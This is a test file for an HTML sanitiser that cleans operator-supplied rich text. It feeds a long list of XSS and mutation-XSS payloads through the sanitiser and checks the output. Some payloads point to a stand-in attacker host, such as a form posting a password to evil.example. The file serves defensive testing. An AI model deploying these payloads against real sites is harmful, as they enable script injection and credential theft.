import fc from 'fast-check';
import type { WindowLike } from 'dompurify';
import { describe, it, expect, vi } from 'vitest';
import { sanitizeOperatorHtml } from './sanitizeOperatorHtml';

/** What the sanitiser adds to every operator image that did not ask to load eagerly. */
const LAZY = ' loading="lazy" decoding="async"';
const lazyImages = (html: string): string => html.replace(/<img([^>]*)>/g, `<img$1${LAZY}>`);

/**
 * Copied from apps/sandbox/src/content/hostile-fixtures.ts (HOSTILE_HTML), which the sandbox
 * serves in HTML widgets, adverts, the news popup and the operator footer. Copied, not imported:
 * ui must not depend on an app.
 */
const SANDBOX_HOSTILE_HTML = {
  scriptTag: '<p>Welcome bonus</p><script>window.__clemHostile = "script";alert(1)</script>',
  imgOnerror: '<img src=x onerror="window.__clemHostile=\'onerror\';alert(2)">',
  onclickHandler: '<a href="#" onclick="window.__clemHostile=\'onclick\'">Claim now</a>',
  javascriptLink: '<a href="javascript:alert(3)">Terms</a>',
  mixedCaseJavascriptLink: '<a href="JaVaScRiPt:alert(4)">Rules</a>',
  iframeJavascript: '<iframe src="javascript:alert(5)" width="1" height="1"></iframe>',
  svgOnload: '<svg onload="window.__clemHostile=\'svg\'"><circle r="4"/></svg>',
  hidingStyle: '<style>body{display:none!important}html{visibility:hidden}</style><p>Styled</p>',
  dataHtmlLink:
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">Open offer</a>',
} as const;

/** Classic XSS and mutation-XSS (mXSS) payloads. */
const HOSTILE_HTML = {
  scriptTag: '<script>alert(1)</script>',
  scriptUpperCase: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  scriptSplit: '<scr<script>ipt>alert(1)</scr</script>ipt>',
  imgOnerror: '<img src=x onerror=alert(1)>',
  imgOnerrorNoQuotesSlash: '<img/src=x/onerror=alert(1)>',
  svgOnload: '<svg onload=alert(1)>',
  svgScript: '<svg><script>alert(1)</script></svg>',
  svgAnimateHref:
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  bodyOnload: '<body onload=alert(1)>',
  detailsOntoggle: '<details open ontoggle=alert(1)>x</details>',
  linkEntityNewline: '<a href="java&#x0A;script:alert(1)">x</a>',
  linkMixedCase: '<a href="JaVaScRiPt:alert(1)">x</a>',
  linkLeadingSpaces: '<a href="   javascript:alert(1)">x</a>',
  linkTab: '<a href="jav\tascript:alert(1)">x</a>',
  linkDecimalEntities:
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  iframeSrcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  iframeSrc: '<iframe src="https://evil.example"></iframe>',
  objectData: '<object data="javascript:alert(1)"></object>',
  embedSrc: '<embed src="javascript:alert(1)">',
  mathMglyphStyle: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  mathMtextStyle:
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  formMathMglyph:
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  svgPStyle: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  noscriptTitle: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  textareaInSvg:
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  templateContent: '<template><img src=x onerror=alert(1)></template>',
  commentBreakout: '<!--<img src="--><img src=x onerror=alert(1)//">',
  cdataBreakout: '<![CDATA[><img src=x onerror=alert(1)>]]>',
  styleExpression: '<style>p{width:expression(alert(1))}</style><p>x</p>',
  styleImport: '<style>@import "https://evil.example/x.css";</style>',
  styleAttributeExpression:
    '<p style="width:expression(alert(1));background:url(javascript:x)">x</p>',
  styleAttributeOverlay: '<div style="position:fixed;inset:0;z-index:9999">Fake login</div>',
  formAction:
    '<form action="https://evil.example/steal"><input name=password type=password></form>',
  buttonFormaction: '<button formaction="javascript:alert(1)">Go</button>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  baseHref: '<base href="https://evil.example/">',
  linkStylesheet: '<link rel="stylesheet" href="https://evil.example/x.css">',
  domClobbering: '<img name="cookie"><a id="location" href="https://evil.example">x</a>',
  targetBlankNoRel: '<a href="https://evil.example" target="_blank">Tabnabbing</a>',
  relOpener: '<a href="https://evil.example" target="_blank" rel="opener">Tabnabbing</a>',
  dataAttribute: '<div data-bind="html: evil">x</div>',
  videoPoster: '<video poster="javascript:alert(1)"><source src="x" onerror="alert(1)"></video>',
  imgSrcset: '<img srcset="javascript:alert(1) 1x">',
  customElement: '<x-evil onclick=alert(1)>x</x-evil>',
  portal: '<portal src="https://evil.example"></portal>',
} as const;

/** Ordinary operator rich text, written as DOMPurify serialises it, so it must come back as is. */
const BENIGN_HTML = {
  paragraphAndBold:
    '<p>Welcome to <strong>Clem</strong>, <b>bold</b>, <em>emphasis</em> and <i>italics</i>.</p>',
  headings: '<h2>Promotions</h2><h3>Weekend boost</h3><p>Odds boosted on all matches.</p>',
  link: '<a href="https://example.com/promo">See the offer</a>',
  relativeLinks:
    '<a href="/terms">Terms</a> · <a href="#rules">Rules</a> · <a href="help.html">Help</a>',
  contactLinks:
    '<a href="mailto:support@example.com">Mail us</a> or <a href="tel:+441234567890">call</a>',
  externalLink:
    '<a href="https://example.com" target="_blank" rel="noopener noreferrer">Partner</a>',
  sponsoredLink:
    '<a href="https://example.com" target="_blank" rel="sponsored noopener noreferrer">Ad</a>',
  image: '<img src="/api/static/images/logo-200x50.png" alt="Clem" width="200" height="50">',
  dataImage:
    '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==" alt="">',
  lists: '<ul><li>One</li><li>Two</li></ul><ol start="3"><li>Three</li></ol>',
  definitionList: '<dl><dt>Stake</dt><dd>The amount you bet.</dd></dl>',
  table:
    '<table><caption>Limits</caption><thead><tr><th scope="col">Market</th><th scope="col">Max</th></tr></thead><tbody><tr><td>Win</td><td>€500</td></tr><tr><td colspan="2">Other limits apply.</td></tr></tbody></table>',
  operatorHeader:
    '<div class="op-header"><img src="/api/static/images/logo-200x50.png" alt="Clem"></div>',
  operatorFooter:
    '<footer><p>© Clem. Licensed and regulated.</p><a href="/terms">Terms</a></footer>',
  details: '<details><summary>Rules</summary><p>18+ only.</p></details>',
  quoteAndCode:
    '<blockquote cite="https://example.com">Bet responsibly.</blockquote><p><code>CODE10</code><br><small>T&amp;Cs apply</small></p>',
  aria: '<span aria-label="Eighteen plus" lang="en" dir="ltr">18+</span>',
  time: '<p>Ends <time datetime="2026-12-31">31 December</time>.</p>',
  textWithEntities: '<p>1 &lt; 2 &amp;&amp; "quotes" stay text</p>',
} as const;

const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'meta',
  'base',
  'link',
  'noscript',
  'template',
  'svg',
  'math',
]);
const URL_ATTRIBUTES = ['href', 'src', 'cite', 'action', 'formaction', 'xlink:href', 'poster'];
const SAFE_URL = /^(?:(?:https?|mailto|tel):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;
const SAFE_DATA_IMAGE = /^data:image\/(?:png|jpe?g|gif|webp|avif);base64,[a-z0-9+/]*={0,2}$/i;

/** Parses sanitised output inertly and lists every way it could still run or mislead. */
function problemsIn(output: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = output;
  const problems: string[] = [];
  for (const element of template.content.querySelectorAll('*')) {
    const tag = element.localName;
    if (FORBIDDEN_ELEMENTS.has(tag)) problems.push(`<${tag}>`);
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`namespace ${tag}`);
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) problems.push(`${tag}[${name}]`);
      if (['style', 'srcdoc', 'id', 'name', 'http-equiv'].includes(name)) {
        problems.push(`${tag}[${name}]`);
      }
      if (URL_ATTRIBUTES.includes(name) && value !== '') {
        // What a browser would make of it: the scheme it resolves to against a page URL.
        const protocol = new URL(value, 'https://page.example/').protocol;
        if (!['http:', 'https:', 'mailto:', 'tel:', 'data:'].includes(protocol)) {
          problems.push(`${tag}[${name}] resolves to ${protocol}`);
        }
        const compact = value.replace(
          // eslint-disable-next-line no-control-regex -- DOMPurify's whitespace set, NUL included
          /[\u0000-\u0020\u00A0\u1680\u180E\u2000-\u2029\u205F\u3000]/g,
          '',
        );
        const isDataImage = tag === 'img' && name === 'src' && SAFE_DATA_IMAGE.test(compact);
        if (!SAFE_URL.test(compact) && !isDataImage) problems.push(`${tag}[${name}=${value}]`);
        if (/^\s*(?:javascript|vbscript|data):/i.test(compact) && !isDataImage) {
          problems.push(`${tag}[${name}=${value}]`);
        }
      }
      if (name === 'target' && (tag !== 'a' || value !== '_blank')) {
        problems.push(`${tag}[target=${value}]`);
      }
    }
    if (element.getAttribute('target') === '_blank') {
      const rel = (element.getAttribute('rel') ?? '').split(/\s+/);
      if (!rel.includes('noopener') || !rel.includes('noreferrer')) problems.push('a[rel] missing');
    }
  }
  return problems;
}

/** Sanitised output is clean, stays the same when sanitised again, and survives a re-parse. */
function expectHarmless(input: string): string {
  const output = sanitizeOperatorHtml(input);
  expect(typeof output).toBe('string');
  expect(problemsIn(output)).toEqual([]);
  expect(sanitizeOperatorHtml(output)).toBe(output);
  const reparsed = document.createElement('template');
  reparsed.innerHTML = output;
  expect(reparsed.innerHTML).toBe(output);
  return output;
}

describe('sanitizeOperatorHtml: hostile input', () => {
  it.each(Object.entries(HOSTILE_HTML))('%s is made harmless', (_name, input) => {
    expectHarmless(input);
  });

  it.each(Object.entries(SANDBOX_HOSTILE_HTML))(
    'sandbox fixture %s is made harmless',
    (_name, input) => {
      const output = expectHarmless(input);
      expect(output).not.toMatch(
        /<script|onerror|onclick|onload|javascript:|<iframe|<style|data:/i,
      );
    },
  );

  it('makes every sandbox fixture harmless when one widget serves them together', () => {
    const output = expectHarmless(Object.values(SANDBOX_HOSTILE_HTML).join('\n'));
    expect(output).not.toContain('__clemHostile');
    // The harmless parts of the fixtures survive as content.
    for (const text of ['Welcome bonus', 'Claim now', 'Terms', 'Rules', 'Styled', 'Open offer']) {
      expect(output).toContain(text);
    }
  });

  it('removes javascript: in every disguise and keeps the link text', () => {
    const disguises = [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'JAVASCRIPT:alert(1)',
      '  javascript:alert(1)',
      '\tjavascript:alert(1)',
      'java\nscript:alert(1)',
      'java&#x0A;script:alert(1)',
      'java&#x09;script:alert(1)',
      'java&#13;script:alert(1)',
      '&#106;avascript:alert(1)',
      '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
      'javascript&colon;alert(1)',
      '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
      'vbscript:msgbox(1)',
      'jar:https://x/!/',
      'data:text/html,<script>alert(1)</script>',
      ' data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'DATA:text/html,x',
    ];
    for (const href of disguises) {
      const output = expectHarmless(`<a href="${href.replace(/"/g, '&quot;')}">Terms</a>`);
      expect(output, href).toBe('<a>Terms</a>');
    }
  });

  it('leaves a NUL-split scheme only as a harmless relative URL', () => {
    // The HTML parser turns NUL into U+FFFD, so no scheme is left: a path on the page's origin.
    const output = expectHarmless('<a href="java\u0000script:alert(1)">x</a>');
    const href = output.match(/href="([^"]*)"/)?.[1] ?? '';
    expect(new URL(href, 'https://page.example/').origin).toBe('https://page.example');
  });

  it('keeps only raster data: images, and only in <img src>', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitizeOperatorHtml(`<img src="${png}" alt="dot">`)).toBe(
      `<img src="${png}" alt="dot"${LAZY}>`,
    );
    expect(sanitizeOperatorHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe(
      `<img alt=""${LAZY}>`,
    );
    expect(sanitizeOperatorHtml('<img src="data:text/html,<b>x</b>">')).toBe(`<img alt=""${LAZY}>`);
    expect(sanitizeOperatorHtml(`<a href="${png}">x</a>`)).toBe('<a>x</a>');
  });

  it('drops dangerous containers entirely and form controls to their text', () => {
    expect(sanitizeOperatorHtml('<script>alert(1)</script>')).toBe('');
    expect(sanitizeOperatorHtml('<iframe srcdoc="<script>alert(1)</script>"></iframe>')).toBe('');
    expect(sanitizeOperatorHtml('<meta http-equiv="refresh" content="0;url=https://x">')).toBe('');
    expect(sanitizeOperatorHtml('<base href="https://evil.example/">')).toBe('');
    expect(sanitizeOperatorHtml('<form action="https://evil"><button>Go</button></form>')).toBe(
      'Go',
    );
  });

  it('gives target=_blank links rel="noopener noreferrer" and drops other targets', () => {
    expect(sanitizeOperatorHtml('<a href="https://x.example" target="_blank">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(
      sanitizeOperatorHtml('<a href="/x" target="_BLANK" rel="opener Sponsored evil">x</a>'),
    ).toBe('<a href="/x" target="_blank" rel="sponsored noopener noreferrer">x</a>');
    expect(sanitizeOperatorHtml('<a href="/x" target="popup">x</a>')).toBe('<a href="/x">x</a>');
    expect(sanitizeOperatorHtml('<a href="/x" rel="opener">x</a>')).toBe('<a href="/x">x</a>');
    expect(sanitizeOperatorHtml('<p target="_blank">x</p>')).toBe('<p>x</p>');
  });

  it('strips style, id, name and data attributes', () => {
    expect(
      sanitizeOperatorHtml(
        '<div id="main-content" name="x" data-x="1" style="position:fixed;inset:0">x</div>',
      ),
    ).toBe('<div>x</div>');
  });

  it('returns a string and does not touch the input', () => {
    const input = '<p onclick="x()">Hi</p>';
    expect(sanitizeOperatorHtml(input)).toBe('<p>Hi</p>');
    expect(input).toBe('<p onclick="x()">Hi</p>');
    expect(sanitizeOperatorHtml('')).toBe('');
  });

  it('uses a window passed in, and throws instead of returning raw HTML without one', () => {
    expect(sanitizeOperatorHtml('<b onclick="x">ok</b>', window)).toBe('<b>ok</b>');
    // A window without a DOM: DOMPurify would hand its input back unchanged; we must not.
    const noDom = {} as unknown as WindowLike;
    expect(() => sanitizeOperatorHtml('<script>alert(1)</script>', noDom)).toThrow(/DOMPurify/);
  });

  it('throws on the server (no global window) instead of returning raw HTML', () => {
    vi.stubGlobal('window', undefined);
    try {
      expect(() => sanitizeOperatorHtml('<script>alert(1)</script>')).toThrow(/needs a DOM/);
    } finally {
      vi.unstubAllGlobals();
    }
    expect(sanitizeOperatorHtml('<i>back</i>')).toBe('<i>back</i>');
  });
});

describe('sanitizeOperatorHtml: benign input', () => {
  it.each(Object.entries(BENIGN_HTML))('%s survives unchanged', (_name, input) => {
    expect(expectHarmless(input)).toBe(lazyImages(input));
  });

  it('keeps safe URL kinds', () => {
    const links = [
      'https://example.com/promo?x=1',
      'http://example.com',
      'mailto:support@example.com',
      'tel:+441234567890',
      '/terms',
      '#top',
      '?tab=live',
      'terms.html',
      '../rules',
      '//cdn.example.com/x',
    ];
    for (const href of links) {
      expect(sanitizeOperatorHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}">x</a>`);
    }
  });
});

describe('sanitizeOperatorHtml: links and images that only look same-site', () => {
  it('drops hrefs that leave the site through backslashes, encodings or controls', () => {
    for (const href of [
      '/\\evil.example',
      '\\\\evil.example',
      '/%5cevil.example',
      '/%2F%2Fevil.example',
      '/..//evil.example',
      '/&#9;/evil.example',
    ]) {
      expect(sanitizeOperatorHtml(`<a href="${href}">x</a>`), href).toBe('<a>x</a>');
    }
  });

  it('keeps images on this site (and raster data: images) only', () => {
    for (const src of [
      '/\\evil.example/x.png',
      'https://evil.example/x.png',
      '//evil.example/x.png',
      '/%2F%2Fevil.example/x.png',
    ]) {
      expect(sanitizeOperatorHtml(`<img src="${src}" alt="a">`), src).toBe(`<img alt="a"${LAZY}>`);
    }
    expect(sanitizeOperatorHtml('<img src="/api/static/images/a.png" alt="a">')).toBe(
      `<img src="/api/static/images/a.png" alt="a"${LAZY}>`,
    );
  });
});

describe('sanitizeOperatorHtml: properties', () => {
  const fragments = [
    ...Object.values(HOSTILE_HTML),
    ...Object.values(SANDBOX_HOSTILE_HTML),
    ...Object.values(BENIGN_HTML),
    '<',
    '>',
    '"',
    "'",
    '</p>',
    '<a href="',
    'javascript:',
    '<svg>',
    '<math>',
    '<style>',
    '</style>',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<noscript>',
    '<table>',
    '<select>',
    '<template>',
    ' onerror=alert(1) ',
    '<img src=x ',
  ];

  it('any mix of hostile, benign and broken fragments comes out harmless, parse after parse', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 8 })), {
          maxLength: 12,
        }),
        (parts) => {
          const output = sanitizeOperatorHtml(parts.join(''));
          expect(problemsIn(output)).toEqual([]);
          // Not idempotence: a cleaned tree may hold nesting the parser would not build (a <p>
          // left inside a <p>), so a second parse can differ. Every later parse must be clean too.
          const reparsed = document.createElement('template');
          reparsed.innerHTML = output;
          expect(problemsIn(reparsed.innerHTML)).toEqual([]);
          expect(problemsIn(sanitizeOperatorHtml(output))).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('withoutStyleElements', () => {
  it('drops style elements, closed or not, and keeps everything else', async () => {
    const { withoutStyleElements } = await import('./sanitizeOperatorHtml');
    expect(withoutStyleElements('<style>body{display:none}</style><p>Styled</p>')).toBe(
      '<p>Styled</p>',
    );
    expect(withoutStyleElements('<p>a</p><STYLE media="x">b{}</Style ><p>c</p>')).toBe(
      '<p>a</p><p>c</p>',
    );
    expect(withoutStyleElements('<p>a</p><style>body{display:none')).toBe('<p>a</p>');
    expect(withoutStyleElements('<p style="color:red">x</p>')).toBe('<p style="color:red">x</p>');
  });
});

describe('images without a text alternative', () => {
  it('become decorative (alt="") and keep an alt they have', () => {
    expect(sanitizeOperatorHtml('<img src="/a.png">')).toBe(`<img src="/a.png" alt=""${LAZY}>`);
    expect(sanitizeOperatorHtml('<img src="/a.png" alt="Bonus">')).toBe(
      `<img src="/a.png" alt="Bonus"${LAZY}>`,
    );
  });
});

describe('operator images load lazily', () => {
  it('get loading="lazy" and decoding="async", so they do not compete with the first load', () => {
    const clean = sanitizeOperatorHtml('<p>Promo</p><img src="/banner.png" alt="Bonus">');
    const img = new DOMParser().parseFromString(clean, 'text/html').querySelector('img');
    expect(img?.getAttribute('loading')).toBe('lazy');
    expect(img?.getAttribute('decoding')).toBe('async');
  });

  it('keep an operator\'s loading="eager" (a banner at the top of the page)', () => {
    expect(sanitizeOperatorHtml('<img src="/hero.png" alt="Hero" loading="eager">')).toBe(
      '<img src="/hero.png" alt="Hero" loading="eager" decoding="async">',
    );
    expect(sanitizeOperatorHtml('<img src="/a.png" alt="A" loading="whatever">')).toBe(
      '<img src="/a.png" alt="A" loading="lazy" decoding="async">',
    );
  });
});
